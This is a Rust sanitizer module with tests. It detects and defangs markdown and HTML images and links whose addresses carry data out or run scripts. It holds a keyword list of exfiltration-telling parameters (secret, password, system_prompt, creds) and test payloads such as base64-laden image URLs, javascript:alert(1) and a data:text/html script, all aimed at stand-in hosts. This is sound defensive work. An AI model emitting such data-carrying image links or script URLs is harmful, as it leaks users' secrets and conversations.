//! Images and links that carry data out when they are shown or followed, and links that run scripts. Their address is
//! made unusable (`https` becomes `hxxps`), the text stays.

use aho_corasick::{AhoCorasick, AhoCorasickKind};
use base64::Engine as _;
use regex::Regex;
use url::Url;

use super::config::allows;
use super::sanitizer::Error;
use super::strings::Edit;

/// How far back a tag or bracket may begin.
const BACK: usize = 1024;
/// Parameters that say how something looks.
const PRESENTATION: [&str; 40] = [
    "w",
    "h",
    "width",
    "height",
    "size",
    "s",
    "v",
    "ver",
    "version",
    "q",
    "quality",
    "format",
    "fm",
    "fit",
    "crop",
    "auto",
    "dpr",
    "style",
    "color",
    "logo",
    "logocolor",
    "label",
    "labelcolor",
    "theme",
    "branch",
    "scale",
    "zoom",
    "ixlib",
    "ixid",
    "cs",
    "bg",
    "cachebuster",
    "rev",
    "raw",
    "d",
    "r",
    "resize",
    "strip",
    "ssl",
    "event",
];
/// Parameters that by their names carry data out.
const TELLING: [&str; 34] = [
    "data",
    "exfil",
    "exfiltrate",
    "secret",
    "secrets",
    "leak",
    "leaked",
    "stolen",
    "payload",
    "conversation",
    "history",
    "chat",
    "prompt",
    "password",
    "passwd",
    "pwd",
    "apikey",
    "api_key",
    "env",
    "creds",
    "credentials",
    "dump",
    "keys",
    "ssn",
    "msg",
    "message",
    "context",
    "content",
    "contents",
    "steal",
    "private",
    "messages",
    "userdata",
    "system_prompt",
];

/// What an address is good for, as findings name it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Bad {
    /// It carries data.
    Data,
    /// It runs something.
    Script,
}

/// An address that must not work.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Link {
    pub bad: Bad,
    pub start: usize,
    pub end: usize,
    pub edit: Edit,
}

/// Finds addresses where markup puts them.
#[derive(Debug)]
pub(super) struct Links {
    gate: AhoCorasick,
    inline: Regex,
    reference: Regex,
    attribute: Regex,
    auto: Regex,
}

/// The beginning of an address.
const ADDRESS: &str = r"((?:https?:|ftp:)?[/\\]{2}|(?:java|vb)script:|data:text/(?:html|javascript))";
/// Longest address that is looked at, in bytes.
const LONGEST: usize = 1024;
/// Addresses of one text that are judged; more of them are all bad.
const MOST: usize = 4096;

impl Links {
    pub fn new() -> Result<Self, Error> {
        let regex = |pattern: String| Regex::new(&pattern).map_err(Box::new);
        let gate = [
            "](",
            "]: ",
            "]:",
            "src",
            "href",
            "<http",
            "action",
            "poster",
            "background",
            "data=",
            "script:",
            "data:text",
        ];
        Ok(Self {
            gate: AhoCorasick::builder()
                .kind(Some(AhoCorasickKind::DFA))
                .ascii_case_insensitive(true)
                .prefilter(false)
                .build(gate)?,
            inline: regex(format!(r"(?i)\]\([\s<]{{0,8}}{ADDRESS}"))?,
            reference: regex(format!(r"(?im)^[ >]{{0,6}}\[[^\]\n]{{1,200}}\]:[\s<]{{0,8}}{ADDRESS}"))?,
            attribute: regex(format!(
                r#"(?i)\b(src|srcset|poster|background|data|href|action|formaction|xlink:href)\s{{0,4}}=\s{{0,4}}["']?\s{{0,4}}{ADDRESS}"#
            ))?,
            auto: regex(format!(r"(?i)<{ADDRESS}"))?,
        })
    }

    /// Whether a text can hold markup with addresses; quick.
    pub fn may_link(&self, text: &str) -> bool {
        may_address(text.as_bytes()) && self.gate.is_match(text)
    }

    /// Every address that must not work, in order.
    pub fn bad(&self, text: &str, allowed: &[String]) -> Vec<Link> {
        let mut found: Vec<Link> = Vec::new();
        let referenced = text.contains("![");
        let mut judged = 0;
        let mut look = |address: Option<regex::Match<'_>>, shown: bool| {
            let Some(start) = address.map(|address| address.start()) else { return };
            judged += 1;
            let allowed = if judged > MOST { &[] } else { allowed };
            found.extend(judge(whole(text, start), start, shown || judged > MOST, allowed));
        };
        for hit in self.inline.captures_iter(text) {
            let bracket = hit.get(0).map_or(0, |whole| whole.start());
            look(hit.get(1), is_image(text, bracket));
        }
        // What a pattern cannot do without is sought first: it is seldom there.
        let has = |part: &str| memchr::memmem::find(text.as_bytes(), part.as_bytes()).is_some();
        let (references, tags) = (has("]:"), has("<"));
        for hit in references.then(|| self.reference.captures_iter(text)).into_iter().flatten() {
            look(hit.get(1), referenced);
        }
        for hit in tags.then(|| self.attribute.captures_iter(text)).into_iter().flatten() {
            let start = hit.get(0).map_or(0, |whole| whole.start());
            if in_tag(text, start) {
                let name = hit.get(1).map_or("", |name| name.as_str());
                look(
                    hit.get(2),
                    !matches!(name.to_ascii_lowercase().as_str(), "href" | "action" | "formaction"),
                );
            }
        }
        // A match ends where its address begins, so that one inside of another is seen as well.
        for hit in tags.then(|| self.auto.captures_iter(text)).into_iter().flatten() {
            look(hit.get(1), false);
        }
        found.sort_by_key(|link| link.start);
        found.dedup_by_key(|link| link.start);
        found
    }
}

/// Whether an address may begin anywhere: two slashes of either kind, or the colon of a script or of data.
fn may_address(bytes: &[u8]) -> bool {
    let slash = |byte: Option<&u8>| matches!(byte, Some(b'/' | b'\\'));
    let ends = |at: usize, word: &[u8]| {
        at.checked_sub(word.len())
            .and_then(|from| bytes.get(from..at))
            .is_some_and(|part| part.eq_ignore_ascii_case(word))
    };
    memchr::memchr3_iter(b'/', b'\\', b':', bytes).any(|at| match bytes.get(at) {
        Some(b':') => ends(at, b"script") || ends(at, b"data"),
        _ => slash(bytes.get(at + 1)),
    })
}

/// The address that begins at `start`.
fn whole(text: &str, start: usize) -> &str {
    let rest = text.get(start..text.floor_char_boundary(start + LONGEST)).unwrap_or_default();
    let ends = |letter: char| letter.is_whitespace() || matches!(letter, ')' | '>' | '"' | '\'' | '<');
    rest.get(..rest.find(ends).unwrap_or(rest.len())).unwrap_or_default()
}

fn judge(address: &str, start: usize, shown: bool, allowed: &[String]) -> Option<Link> {
    let end = start + address.len();
    let lower = address.get(..address.floor_char_boundary(24)).unwrap_or_default().to_ascii_lowercase();
    let edit = |from: usize, to: usize, with: &str| Edit {
        start: start + from,
        end: start + to,
        with: with.to_owned(),
    };
    if lower.starts_with("javascript:") || lower.starts_with("vbscript:") || lower.starts_with("data:text/") {
        let colon = address.find(':')?;
        return Some(Link { bad: Bad::Script, start, end, edit: edit(colon, colon + 1, "[:]") });
    }
    let whole = if lower.starts_with(['/', '\\']) { format!("https:{address}") } else { address.to_owned() };
    let carries = match Url::parse(&whole.replace("&amp;", "&")) {
        Ok(url) => {
            let host = url.host_str().unwrap_or_default();
            !allows(allowed, host) && carries_data(&url, shown)
        }
        // Placeholders make an address that does not parse; with a query it is meant to be filled.
        Err(_) => address.contains(['?', '{', '$']),
    };
    let edit = if lower.starts_with("http") {
        edit(1, 3, "xx")
    } else if lower.starts_with("ftp") {
        edit(1, 2, "x")
    } else {
        edit(0, 0, "hxxps:")
    };
    carries.then_some(Link { bad: Bad::Data, start, end, edit })
}

/// Whether following an address tells its host something. What is shown (an image) is followed without a click, so
/// that any parameter counts that is not about looks.
fn carries_data(url: &Url, shown: bool) -> bool {
    let host_tells =
        url.host_str().unwrap_or_default().split('.').any(|label| label.len() >= 32 && decodes(label));
    let path_tells = url.path_segments().into_iter().flatten().any(|part| part.len() >= 40 && decodes(part));
    let query = url.query_pairs().any(|(name, value)| {
        let name = name.to_ascii_lowercase();
        if value.is_empty() {
            // `?secret` and `?c2VjcmV0…`: the name itself is the data.
            return shown && name.len() > 12 || name.len() >= 40 && decodes(&name);
        }
        if shown {
            let about_looks =
                PRESENTATION.contains(&name.as_str()) && value.len() <= 16 && !value.contains(' ');
            return !about_looks || is_placeholder(&value);
        }
        TELLING.contains(&name.as_str()) || is_placeholder(&value) || value.len() >= 24 && decodes(&value)
    });
    let fragment =
        url.fragment().is_some_and(|part| is_placeholder(part) || part.len() >= 40 && decodes(part));
    host_tells || path_tells || query || fragment || is_placeholder(url.path())
}

fn is_placeholder(value: &str) -> bool {
    let value = value.trim_matches('/');
    let pairs = [("{", "}"), ("<", ">"), ("$(", ")"), ("[", "]"), ("%7B", "%7D"), ("%3C", "%3E")];
    pairs.iter().any(|(open, close)| value.starts_with(open) && value.ends_with(close))
        || value.contains("${")
        || value.contains("{{")
}

/// Whether a value is base64 or hexadecimal of something that can be read.
fn decodes(value: &str) -> bool {
    let value = value.trim_end_matches('=');
    let readable = |bytes: Vec<u8>| {
        let seen = bytes.iter().filter(|byte| matches!(byte, b' '..=b'~' | b'\n' | b'\t')).count();
        bytes.len() >= 12 && seen * 100 >= bytes.len() * 95
    };
    let hex = value.len().is_multiple_of(2) && value.bytes().all(|byte| byte.is_ascii_hexdigit());
    if hex {
        let byte =
            |pair: &[u8]| std::str::from_utf8(pair).ok().and_then(|pair| u8::from_str_radix(pair, 16).ok());
        return value.as_bytes().chunks_exact(2).map(byte).collect::<Option<Vec<u8>>>().is_some_and(readable);
    }
    let standard = value.replace('-', "+").replace('_', "/");
    base64::engine::general_purpose::STANDARD_NO_PAD.decode(standard).is_ok_and(readable)
}

/// Whether the bracket that closes at `bracket` belongs to an image. Where that cannot be told, it does.
fn is_image(text: &str, bracket: usize) -> bool {
    let from = text.floor_char_boundary(bracket.saturating_sub(BACK));
    let before = text.get(from..bracket).unwrap_or_default();
    let mut depth = 0usize;
    for (at, byte) in before.bytes().enumerate().rev() {
        match byte {
            b']' => depth += 1,
            b'[' if depth == 0 => {
                return at.checked_sub(1).and_then(|at| before.as_bytes().get(at)) == Some(&b'!');
            }
            b'[' => depth -= 1,
            _ => {}
        }
    }
    true
}

/// Whether a tag is open at `at`.
fn in_tag(text: &str, at: usize) -> bool {
    let from = text.floor_char_boundary(at.saturating_sub(BACK));
    let before = text.get(from..at).unwrap_or_default();
    let Some(open) = before.rfind('<') else { return false };
    let inside = before.get(open + 1..).unwrap_or_default();
    inside.starts_with(|letter: char| letter.is_ascii_alphabetic()) && !inside.contains('>')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn defanged(text: &str) -> String {
        let links = Links::new().unwrap();
        let bad = links.bad(text, &["ok.example".into(), "*.cdn.example".into()]);
        super::super::strings::apply(text, &bad.into_iter().map(|link| link.edit).collect::<Vec<_>>())
    }

    #[test]
    fn what_carries_data_is_made_unusable() {
        for (text, expected) in [
            (
                "![x](https://e.example/p.png?d=c2VjcmV0IHZhbHVlIGhlcmU)",
                "![x](hxxps://e.example/p.png?d=c2VjcmV0IHZhbHVlIGhlcmU)",
            ),
            ("![x]( <https://e.example/p?data={secret}>)", "![x]( <hxxps://e.example/p?data={secret}>)"),
            ("[click](https://e.example/?data=abc)", "[click](hxxps://e.example/?data=abc)"),
            ("![a][r]\n\n[r]: https://e.example/i?x=1", "![a][r]\n\n[r]: hxxps://e.example/i?x=1"),
            ("<img width=1 src='http://e.example/i?x=1'>", "<img width=1 src='hxxp://e.example/i?x=1'>"),
            ("<a href=\"javascript:alert(1)\">a</a>", "<a href=\"javascript[:]alert(1)\">a</a>"),
            ("[a](javascript:alert(1))", "[a](javascript[:]alert(1))"),
            ("[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](data[:]text/html;base64,PHNjcmlwdD4=)"),
            (
                "[![in](https://e.example/a?k=1)](https://e.example/b)",
                "[![in](hxxps://e.example/a?k=1)](https://e.example/b)",
            ),
            ("![x](//e.example/p?k=v)", "![x](hxxps://e.example/p?k=v)"),
        ] {
            assert_eq!(defanged(text), expected);
            assert_eq!(defanged(expected), expected, "twice is once");
        }
    }

    #[test]
    fn what_people_write_stays() {
        for text in [
            "![build](https://img.shields.io/badge/build-passing-green.svg?style=flat&logo=rust)",
            "![avatar](https://avatars.githubusercontent.com/u/1?v=4&s=64)",
            "[search](https://www.google.com/search?q=rust+lang&hl=en) [pr](https://github.com/a/b/pull/1?diff=split#discussion_r1)",
            "![x](https://ok.example/p?d=secretsecretsecret) ![y](https://a.cdn.example/p?data=1)",
            "<a href='https://docs.example/page?id=42'>docs</a> a[0](x) JavaScript: the good parts",
            "img.src = \"https://e.example/p?data=1\";",
            "![diagram](./images/diagram.png) [ref]: notes",
        ] {
            assert_eq!(defanged(text), text);
        }
    }
}
